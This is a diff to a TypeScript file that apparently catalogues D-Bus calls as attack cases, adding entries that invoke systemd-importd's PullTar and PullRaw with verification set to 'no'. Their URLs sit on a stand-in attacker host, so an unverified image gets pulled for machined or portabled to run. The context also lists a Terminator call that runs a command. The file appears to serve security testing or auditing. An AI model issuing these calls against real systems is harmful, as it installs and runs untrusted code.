@@ -89,6 +89,24 @@ const direct: Attack[] = [
     ),
     todo: EXEC('installs units from an image'),
   },
+  ...(
+    [
+      ['PullTar', ['https://attacker.example/evil.tar.xz', 'evil', 'no', true]],
+      ['PullRaw', ['https://attacker.example/evil.raw', 'evil', 'no', true]],
+    ] as const
+  ).map(([member, args]): Attack => ({
+    what: `importd ${member} downloads an image without verification into the machine/portable image pool`,
+    ref: 'org.freedesktop.import1(5): Manager.PullTar/PullRaw(s url, s local_name, s verify_mode, b force)',
+    req: call(
+      'system',
+      'org.freedesktop.import1',
+      '/org/freedesktop/import1',
+      'org.freedesktop.import1.Manager',
+      member,
+      [...args],
+    ),
+    todo: EXEC('an unverified image is what machined boots and portabled attaches'),
+  })),
   {
     what: 'Terminator new_tab_cmdline runs a command in a new tab (issue 12 example)',
     ref: 'gnome-terminator terminatorlib/ipc.py: new_tab_cmdline(a{ss} options)',
